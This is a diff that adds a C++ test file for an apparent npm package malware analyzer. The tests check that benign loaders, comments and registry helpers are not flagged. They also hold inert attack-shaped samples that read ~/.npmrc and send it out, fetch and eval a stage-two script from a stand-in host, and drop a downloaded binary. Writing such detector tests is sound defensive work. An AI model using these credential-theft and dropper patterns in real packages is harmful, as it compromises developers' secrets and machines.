@@ -1,0 +1,157 @@
+// Shapes of popular benign code that used to reach high, each next to the malicious shape that
+// must keep firing: comments are not behaviour (comment_ranges.h), a module loader fetches the
+// address its caller names (rule js-fetch-const), and a helper that fetches package tarballs
+// from the configured registry is no dropper (own_binary.h). Snippets are hand-written and inert.
+#include <catch2/catch.hpp>
+
+#include <algorithm>
+
+#include "analyzer/engine/analyzer.h"
+#include "analyzer/engine/comment_ranges.h"
+#include "analyzer/engine/own_binary.h"
+#include "tests/support/engine_samples.h"
+
+using namespace tarsier;
+
+namespace {
+
+PackageAnalysis run_one(const std::string& path, const std::string& text,
+                        const std::string& resolved = "") {
+  std::vector<ArchiveEntry> files = {{"package.json", R"({"name":"shape","version":"1.0.0"})"},
+                                     {path, text}};
+  PackageRef ref = test::sample_ref("shape");
+  ref.resolved = resolved;
+  return test::shared_analyzer().analyze(ref, files, {});
+}
+
+bool has(const std::vector<std::string>& v, const std::string& x) {
+  return std::find(v.begin(), v.end(), x) != v.end();
+}
+
+bool has_rule(const PackageAnalysis& a, const std::string& rule) {
+  return std::any_of(a.findings.begin(), a.findings.end(),
+                     [&](const Finding& f) { return f.rule == rule; });
+}
+
+}  // namespace
+
+TEST_CASE("comment ranges know strings, templates and regular expressions", "[engine][comments]") {
+  std::string js =
+      "const a = 'http://x.invalid/*'; // one\n"
+      "const r = /\\/*[/]/g; /* two */\n"
+      "const t = `${a + `//`}` / 2; // three\n";
+  CommentRanges c(js, Lang::javascript);
+  REQUIRE(c.ranges().size() == 3);
+  CHECK(c.contains(js.find("// one")));
+  CHECK(c.contains(js.find("/* two */") + 3));
+  CHECK(c.contains(js.find("// three")));
+  CHECK_FALSE(c.contains(js.find("http")));
+  CHECK_FALSE(c.contains(js.find("`//`") + 1));
+
+  std::string py = "s = '# not a comment'\nx = \"\"\"# docstring\"\"\"  # real\n";
+  CommentRanges p(py, Lang::python);
+  REQUIRE(p.ranges().size() == 1);
+  CHECK(p.contains(py.find("# real")));
+  CHECK(CommentRanges("# x", Lang::bash).ranges().empty());
+}
+
+TEST_CASE("a credential path or host named only in a comment is no evidence",
+          "[engine][comments]") {
+  std::string net =
+      "const https = require('https');\n"
+      "exports.send = (d) => https.request({ host: require('os').hostname() }).end(d);\n";
+  auto quiet =
+      run_one("lib/run.js",
+              "// Redirect input: node cli.js < /etc/passwd, or read ~/.npmrc first.\n"
+              "/* Webhooks such as https://discord.com/api/webhooks/1/x are rejected. */\n" +
+                  net);
+  CHECK_FALSE(has_rule(quiet, "sensitive-path-system"));
+  CHECK_FALSE(has_rule(quiet, "sensitive-path-npm"));
+  CHECK(quiet.risk < Risk::high);
+
+  auto loud = run_one("lib/run.js",
+                      "const data = require('fs').readFileSync(process.env.HOME + '/.npmrc');\n" +
+                          net + "exports.send(data);\n");
+  CHECK(has_rule(loud, "sensitive-path-npm"));
+  CHECK(loud.risk >= Risk::high);
+}
+
+TEST_CASE("a module loader evaluating what its caller names is no staged payload",
+          "[engine][threats]") {
+  std::string loader =
+      "exports.instantiate = function (url) {\n"
+      "  return fetch(url).then((res) => res.text()).then((source) => {\n"
+      "    (0, eval)(source + '\\n//# sourceURL=' + url);\n"
+      "  });\n"
+      "};\n"
+      "function errMsg(code) { return 'see https://docs.example.invalid/errors#' + code; }\n";
+  auto benign = run_one("dist/loader.js", loader);
+  CHECK_FALSE(has(benign.threats, "staged-payload"));
+  CHECK(benign.risk < Risk::high);
+
+  auto vm = run_one("dist/vm.js",
+                    "const { SourceTextModule } = require('vm');\n"
+                    "exports.load = async (fileUrl) => {\n"
+                    "  const code = await fetch(fileUrl).then((r) => r.text());\n"
+                    "  return new SourceTextModule(code, { identifier: fileUrl });\n"
+                    "};\n");
+  CHECK(vm.risk < Risk::high);
+
+  auto staged = run_one("lib/index.js",
+                        "const src = 'https://cdn.example.invalid/stage2.js';\n"
+                        "fetch(src).then((r) => r.text()).then((code) => eval(code));\n");
+  CHECK(has(staged.threats, "staged-payload"));
+  CHECK(staged.risk >= Risk::high);
+}
+
+namespace {
+
+// The shape of a native-binding helper: fetch the binding's tarball from the configured
+// registry, unpack one file in memory, write it, or fall back to running the package manager.
+std::string binding_helper(const std::string& extra) {
+  return "const cp = require('child_process');\n"
+         "const fs = require('fs');\n"
+         "const https = require('https');\n"
+         "function registry() { return process.env.npm_config_registry || 'https://' + "
+         "'registry.example.test/'; }\n"
+         "function get(url) { return new Promise((ok) => https.get(url, (r) => ok(r))); }\n"
+         "exports.install = async (pkg, version, dest) => {\n"
+         "  const url = `${registry()}${pkg}/-/${pkg}-${version}.tgz`;\n"
+         "  fs.writeFileSync(dest, await get(url));\n"
+         "  cp.execSync(`npm install ${pkg}@${version}`, { stdio: 'pipe' });\n" +
+         extra + "};\n";
+}
+
+}  // namespace
+
+TEST_CASE("a helper fetching package tarballs from the configured registry is no dropper",
+          "[engine][threats][own-binary]") {
+  const std::string archive = "https://registry.example.test/shape/-/shape-1.0.0.tgz";
+  auto benign = run_one("lib/index.js", binding_helper(""), archive);
+  CHECK_FALSE(has(benign.threats, "dropper"));
+  CHECK(benign.risk < Risk::high);
+
+  SECTION("a download from another host stays a dropper") {
+    auto a = run_one("lib/index.js",
+                     binding_helper("  fs.writeFileSync('/tmp/u', await get("
+                                    "'https://cdn.example.invalid/u.bin'));\n"),
+                     archive);
+    CHECK(has(a.threats, "dropper"));
+    CHECK(a.risk >= Risk::high);
+  }
+  SECTION("hiding something stays a dropper") {
+    auto a = run_one("lib/index.js",
+                     binding_helper("  eval(Buffer.from('Y29uc29sZS5sb2coMSk=', "
+                                    "'base64').toString());\n"),
+                     archive);
+    CHECK(a.risk >= Risk::high);
+  }
+  CHECK(fetches_configured_registry_tarball(
+      "const u = `${getRegistry()}${p}/-/${n}-${v}.tgz`; x.startsWith('http://');",
+      "registry.example.test"));
+  CHECK_FALSE(fetches_configured_registry_tarball(
+      "const u = `${getRegistry()}${p}/-/${n}-${v}.tgz`; get('https://cdn.example.invalid/x');",
+      "registry.example.test"));
+  CHECK_FALSE(fetches_configured_registry_tarball("const u = `${mirror}${p}/x.tgz`;",
+                                                  "registry.example.test"));
+}
